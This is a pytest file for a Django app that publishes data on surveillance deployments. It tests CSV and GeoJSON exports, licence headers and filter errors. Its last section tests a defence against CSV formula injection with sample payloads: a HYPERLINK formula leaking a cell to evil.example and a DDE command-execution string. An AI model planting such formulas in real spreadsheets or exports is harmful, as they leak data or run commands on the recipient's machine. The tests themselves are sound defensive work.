import csv
import io
import json

from django.core.management import call_command


def _body(response):
    return b"".join(response.streaming_content).decode()


def test_the_csv_export_follows_the_filters_and_states_its_licence(client, db):
    response = client.get("/exports/dispositifs.csv?department=13")
    assert response["Link"].startswith(
        '<https://opendatacommons.org/licenses/odbl/1-0/>; rel="license", <http'
    )
    assert response["Link"].endswith('/a-propos/donnees/>; rel="describedby"')
    text = _body(response)
    # The first line is the header, as every CSV reader takes it (a licence comment
    # line before it was read as the header: three columns).
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and set(rows[0]) >= {"id", "title", "insee_codes", "amount_eur", "url"}
    assert len(rows) == 3
    big_data = next(r for r in rows if r["title"].startswith("Observatoire Big Data"))
    assert big_data["amount_eur"] == "500000.00"
    assert big_data["insee_codes"] == "13055"


def test_the_geojson_export_has_a_point_per_commune(client, db):
    data = json.loads(_body(client.get("/exports/dispositifs.geojson?vendor=thales")))
    assert "ODbL" in data["licence"]
    la_defense = next(f for f in data["features"] if "Défense" in f["properties"]["title"])
    assert la_defense["geometry"]["type"] == "MultiPoint"
    assert len(la_defense["geometry"]["coordinates"]) == 2
    assert sorted(la_defense["properties"]["communes"]) == ["92026", "92062"]


def test_a_bad_filter_in_an_export_is_a_clear_error(client, db):
    response = client.get("/exports/dispositifs.csv?year=soon")
    assert response.status_code == 400
    assert response.json()["error"]["field"] == "year"


def test_the_map_data_has_one_marker_per_commune(client, db):
    data = client.get("/carte/communes.geojson?technology=detection-sonore").json()
    assert [f["properties"]["code"] for f in data["features"]] == ["42218"]
    everything = client.get("/carte/communes.geojson").json()["features"]
    assert len(everything) == len({f["properties"]["code"] for f in everything}) == 16


def test_the_full_dump_contains_everything_published(db, tmp_path):
    path = tmp_path / "dump.json"
    call_command("dump", output=str(path))
    data = json.loads(path.read_text())
    assert data["licence"] == "ODbL-1.0"
    assert len(data["deployments"]) == 26
    assert len(data["technologies"]) == 14
    assert {c["commune"] for c in data["camera_counts"]} == {"06088", "75056"}


# --- formula injection (OWASP "CSV injection") -----------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")'
CALC = "+cmd|' /C calc'!A0"


def _csv(text):
    """The rows of an export, read as any CSV reader reads them."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_values_typed_into_the_deployment_form_cannot_become_formulas(contributor_client):
    from django.urls import reverse

    from tests.registry.test_pages import _form_post

    response = contributor_client.post(
        reverse("deployment-create"),
        _form_post(
            title=HYPERLINK,
            vendors="@SUM(1+1), -2+3",
            **{
                "fundings-0-funder": "\t=1+1",
                "fundings-0-amount_eur": "1500",
                "citations-0-url": "",
                "citations-0-source_title": CALC,
            },
        ),
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    rows = _csv(_body(contributor_client.get("/exports/dispositifs.csv?department=04")))
    row = next(r for r in rows if "HYPERLINK" in r["title"])
    # Shown as typed, after a single quote that keeps the spreadsheet from running it.
    assert row["title"] == "'" + HYPERLINK
    assert row["vendors"] in ("'-2+3; @SUM(1+1)", "'@SUM(1+1); -2+3")
    assert row["funders"].startswith("'") and "=1+1" in row["funders"]
    assert row["sources"] == "'" + CALC
    # A real number stays a number; plain text is untouched.
    assert row["amount_eur"] == "1500.00"
    assert row["communes"] == "Forcalquier" and row["status"] == "deployed"
    for cell in row.values():
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_the_cell_helper_quotes_every_formula_start_and_keeps_numbers():
    from decimal import Decimal

    from contrechamp.lib.spreadsheet import safe_cell

    for hostile in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1+1"):
        assert safe_cell(hostile) == "'" + hostile
    # Numbers are numbers: a spreadsheet reads -12.5 as a value, not a formula.
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50") and safe_cell(-3) == -3
    assert safe_cell("Nice") == "Nice" and safe_cell("") == "" and safe_cell(None) is None
    assert safe_cell("a=b") == "a=b"  # only the first character counts
